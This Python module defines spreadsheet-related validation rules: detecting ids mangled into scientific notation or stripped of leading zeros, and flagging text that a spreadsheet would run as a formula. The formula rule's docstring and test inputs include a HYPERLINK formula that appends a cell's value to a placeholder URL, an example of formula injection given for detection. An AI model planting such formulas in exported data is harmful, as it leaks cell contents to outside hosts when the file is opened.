"""Rules about what a spreadsheet makes of text in its cells, and its cells of text."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from dataclasses import field as option
from typing import Any, ClassVar

import regex

from ..facts.rows import Rows
from ..facts.streams import Digits, FactStream, Keys, Said, Verdict
from ..facts.tables import Tables
from ..model.records import Records
from ..model.violation import Severity, Stage
from .base import Fields, Finding, KeyRule, RecordRule, Related, Rule
from .breaking import Bench, Breakage, Draft
from .fragments import Schema, field_is
from .kind import kind_of_rule
from .looking import Look, of_text
from .matching import Matcher
from .portable import portable
from .text import Pattern

_SCIENTIFIC = r"[+-]?[0-9](?:[.,][0-9]+)?E[+-]?[0-9]+"
_NUMBER = r"[+-]?[0-9][0-9.,]*(?:[eE][+-]?[0-9]+)?%?"
_IS_SCIENTIFIC = regex.compile(_SCIENTIFIC)
_IS_NUMBER = regex.compile(_NUMBER)
_MOST_ZEROS = 20
_DAMAGED = ("1.23457E+15", "1E+20", "-4,5E-7")
_FORMULAS = ("=1+1", "+1 more", "-x", "@ann", '=HYPERLINK("https://example.org")')


@kind_of_rule
class DamagedId(RecordRule):
    """An id must not be what a spreadsheet made of it.

    ## What it checks
    The text is not a number as spreadsheets show long ones, such as `1.23457E+15`. Where `pattern` is given and the
    text does not match it, zeros before it would not make it match.

    ## Why it matters
    A spreadsheet takes text that looks like a number for one: it drops zeros in front, and digits beyond the
    fifteenth. The id then leads to another entry, or to none.

    ## Example
    `1.23457E+15` for `1234567890123456`; `123` for `00123`, where ids have five digits.

    ## How to mend it
    Give the column the format "Text" before you enter or paste ids, and import CSV files with that format. What was
    lost has to come from where the id came from.

    Attributes:
        field: the field.
        pattern: what the id looks like, where that is known.
    """

    kind: ClassVar[str] = "damaged-id"
    default_message: ClassVar[str] = '{subject}.{field} "{value}" looks like an id that a spreadsheet has changed'
    default_hint: ClassVar[str] = "{advice}"

    field: str
    pattern: str = ""
    severity: Severity = Severity.WARNING
    _matcher: Matcher | None = option(init=False, repr=False, compare=False, default=None)

    def __post_init__(self) -> None:
        super().__post_init__()
        if self.pattern:
            object.__setattr__(self, "_matcher", Matcher(self.pattern))

    def looks_at(self) -> Iterator[Look]:
        yield of_text("field", self.field)

    def schema(self) -> Schema:
        intact: Schema = {"not": {"pattern": f"^(?:{_SCIENTIFIC})$"}}
        if not self.pattern:
            return field_is(self.field, intact)
        no_number: Schema = {"pattern": "^[^0-9+-]"}
        spelt = portable(self.pattern)
        if spelt is None:
            return field_is(self.field, no_number)
        return field_is(self.field, {"anyOf": [no_number, {"pattern": spelt, **intact}]})

    def check(self, fields: Fields) -> Iterator[Finding]:
        value = fields.get(self.field)
        if not isinstance(value, str):
            return
        if _IS_SCIENTIFIC.fullmatch(value):
            advice = "enter it again, in a column with the format Text: digits of it are lost"
            yield Finding((self.field,), value, {"advice": advice})
        elif self.pattern and value.isascii() and value.isdigit() and (padded := self._padded(value)):
            yield Finding((self.field,), value, {"advice": f"write {padded}, in a column with the format Text"})

    def _padded(self, digits: str) -> str | None:
        """The digits with so many zeros before them that they match the pattern; None where they do, or none help."""
        assert self._matcher is not None
        for zeros in range(_MOST_ZEROS):
            padded = digits.rjust(len(digits) + zeros, "0")
            matches = self._matcher.matches(padded)
            if matches is None:
                break
            if matches:
                return padded if zeros else None
        return None

    @property
    def matcher(self) -> Matcher | None:
        return self._matcher

    judges_value: ClassVar[bool] = True

    def mend(self, fields: Draft, bench: Bench) -> None:
        fields[self.field] = bench.fresh(self.field)

    def comes_with(self, rule: Rule) -> bool:
        return isinstance(rule, Pattern) and rule.field == self.field and not _some_match(rule, _DAMAGED)

    def breaks(self, fields: Draft, bench: Bench) -> Iterator[Breakage]:
        for text in bench.fitting(self.field, _DAMAGED):
            yield Breakage({**fields, self.field: text}, (self.field,), [self.field])


@kind_of_rule
class FormulaText(RecordRule):
    """Text must not look like a formula.

    ## What it checks
    The text does not begin with `=`, `+`, `-` or `@`, unless it is a number.

    ## Why it matters
    To whoever opens the file, or an export of what was imported, in a spreadsheet next, it is a formula: it is worked
    out, and can reach other files and the web.

    ## Example
    `=HYPERLINK("https://example.org/?"&A1)`; `@ann`; `+1 more`.

    ## How to mend it
    Put another character first, if the text can do without; leave it where it is right and everybody knows.

    Attributes:
        field: the field.
    """

    kind: ClassVar[str] = "formula-text"
    default_message: ClassVar[str] = '{subject}.{field} begins with "{first}": a formula to whoever opens the file next'
    default_hint: ClassVar[str] = "begin the text with another character"

    field: str
    severity: Severity = Severity.WARNING

    def looks_at(self) -> Iterator[Look]:
        yield of_text("field", self.field)

    def schema(self) -> Schema:
        return field_is(self.field, {"pattern": f"^(?:[^=+@-]|$|(?:{_NUMBER})$)"})

    def check(self, fields: Fields) -> Iterator[Finding]:
        value = fields.get(self.field)
        if isinstance(value, str) and value.startswith(("=", "+", "-", "@")) and not _IS_NUMBER.fullmatch(value):
            yield Finding((self.field,), value, {"first": value[0]})

    judges_value: ClassVar[bool] = True

    def mend(self, fields: Draft, bench: Bench) -> None:
        fields[self.field] = bench.fresh(self.field)

    def comes_with(self, rule: Rule) -> bool:
        return isinstance(rule, Pattern) and rule.field == self.field and not _some_match(rule, _FORMULAS)

    def breaks(self, fields: Draft, bench: Bench) -> Iterator[Breakage]:
        for text in bench.fitting(self.field, _FORMULAS):
            yield Breakage({**fields, self.field: text}, (self.field,), [self.field])


@kind_of_rule
class LostZeros(KeyRule):
    """Ids that are digits alone must not have lost their zeros in front.

    ## What it checks
    Where an id of a column is digits with a zero in front, one of digits without is not shorter than the first such.

    ## Why it matters
    A spreadsheet takes `00123` for a number and shows `123`. Where that happened to some of a column's ids, they lead
    to other entries, or to none.

    ## Example
    `00121`, `00122`, `123`.

    ## How to mend it
    Write the zeros again, in a column with the format "Text". Where the ids are right to have different lengths, turn
    the rule off.

    Attributes:
        field: the field.
    """

    kind: ClassVar[str] = "lost-zeros"
    default_message: ClassVar[str] = (
        '{subject}.{field} "{value}" may have lost zeros in front: others are like "{other}"'
    )
    default_hint: ClassVar[str] = "write {padded} if that is meant, in a column with the format Text"
    default_stage: ClassVar[Stage] = Stage.VALIDATION
    relates: ClassVar[int] = 1

    field: str
    severity: Severity = Severity.WARNING

    def looks_at(self) -> Iterator[Look]:
        yield of_text("field", self.field)

    def streams(self) -> list[FactStream]:
        record_type = self.scope.record_type
        space, table = f"{record_type}#{self.field}:digits", f"padded:{self.field}"
        return [
            FactStream(
                "padded",
                record_type,
                space,
                self._read_padded,
                table=table,
                rule=self,
                said=Said(digits=Digits(self.field, padded=True)),
            ),
            FactStream(
                "bare",
                record_type,
                space,
                self._read_bare,
                judge=self._judge,
                rule=self,
                said=Said(digits=Digits(self.field, padded=False)),
            ),
        ]

    def describe(self, fields: Fields, items: list[int], related: list[Related]) -> Finding:
        value, other = str(fields.get(self.field)), str(related[0].fields.get(self.field))
        return Finding((self.field,), value, {"other": other, "padded": value.rjust(len(other), "0")})

    def _read_padded(self, records: Records) -> Keys:
        """The first id with a zero in front: one a batch is enough to know the first of the file."""
        column = self._column(records)
        first = next((at for at, value in enumerate(column) if _is_digits(value) and value[0] == "0" != value), None)
        return Keys([], []) if first is None else Keys([first], [""], payloads=_length(column[first]))

    def _read_bare(self, records: Records) -> Keys:
        column = self._column(records)
        at = [number for number, value in enumerate(column) if _is_digits(value) and value[0] != "0"]
        return Keys(at, [""] * len(at), payloads=b"".join([_length(column[number]) for number in at]))

    def _column(self, records: Records) -> list[Any]:
        """The ids of some records; none where it is quickly seen that none of them is of digits alone."""
        column = records.column(self.field)
        try:
            return column if any(map(str.isdecimal, filter(None, column))) else []
        except TypeError:  # a cell that cannot be read
            return column

    def _judge(self, rows: Rows, tables: Tables) -> Verdict:
        table = tables[f"padded:{self.field}"]
        found, place = table.find(rows["hi"], rows["lo"])
        shorter = rows["payload_hi"] < table.column("payload_hi", place)
        return Verdict(found & shorter, (table.column("index", place),))

    def mend(self, fields: Draft, bench: Bench) -> None:
        if _is_digits(fields.get(self.field)):
            fields[self.field] = bench.fresh(self.field)

    def breaks(self, fields: Draft, bench: Bench) -> Iterator[Breakage]:
        for padded, bare in (("00123", "123"), ("01", "7")):
            bench.lay({self.field: padded})
            yield Breakage({**fields, self.field: bare}, (self.field,), [self.field])


def _is_digits(value: Any) -> bool:
    return value.__class__ is str and value.isdecimal() and value.isascii()


def _length(value: str) -> bytes:
    return len(value).to_bytes(8, "little") + bytes(8)


def _some_match(rule: Pattern, texts: Sequence[str]) -> bool:
    """Whether a pattern matches one of several texts."""
    return any(next(rule.check({rule.field: text}), None) is None for text in texts)
